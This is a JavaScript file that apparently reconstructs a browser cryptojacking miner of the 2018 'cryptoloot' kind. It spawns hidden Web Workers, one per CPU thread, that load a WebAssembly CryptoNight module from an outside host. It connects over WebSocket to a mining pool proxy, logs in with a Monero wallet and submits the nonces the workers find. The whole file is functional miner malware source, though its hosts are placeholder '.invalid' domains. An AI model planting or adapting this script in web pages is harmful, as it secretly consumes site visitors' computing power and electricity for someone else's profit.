// cryptoloot (variant b), written from Check Point's reports on in-page miners (2018) and the
// public description of the open-source "webminerpool" server that self-hosted miners of that
// time used: the page runs its own Web Workers from a Blob, each fetching a WebAssembly
// CryptoNight build, while the main script holds a WebSocket to the pool proxy (here .invalid),
// logs in with a wallet, hands each job to the workers and submits the nonces they find.
(function () {
  var pool = "wss://webminer-proxy.invalid:8181/";
  var wallet = "48FQR9Dn369GtZESi2WYWRYdDzvS6YFq2mJaTXzRo8jH7u5RgvR7j4NGm6YziazEetAf5b3YmDAxeWoeyVKcPwyU9Bqf7bm";
  var workerSrc = "var inst;onmessage=function(e){var j=e.data;if(!inst){" +
    "WebAssembly.instantiateStreaming(fetch('https://webminer-proxy.invalid/cn.wasm')).then(function(r){inst=r.instance;run(j);});}else run(j);};" +
    "function run(j){var n=0;while(n<1e6){var h=inst.exports.hash(j.blob,n,j.variant);" +
    "if(h<j.target){postMessage({job_id:j.job_id,nonce:n,result:h});}n++;}}";
  var url = URL.createObjectURL(new Blob([workerSrc], { type: "application/javascript" }));
  var workers = [];
  var threads = navigator.hardwareConcurrency || 4;
  var ws = new WebSocket(pool);
  ws.onopen = function () {
    ws.send(JSON.stringify({ identifier: "handshake", pool: "moneroocean", login: wallet, password: "web", version: 7 }));
  };
  ws.onmessage = function (m) {
    var msg = JSON.parse(m.data);
    if (msg.identifier !== "job") return;
    for (var i = 0; i < threads; i++) {
      if (!workers[i]) {
        workers[i] = new Worker(url);
        workers[i].onmessage = function (e) {
          ws.send(JSON.stringify({ identifier: "solved", job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result }));
        };
      }
      workers[i].postMessage(msg);
    }
  };
})();
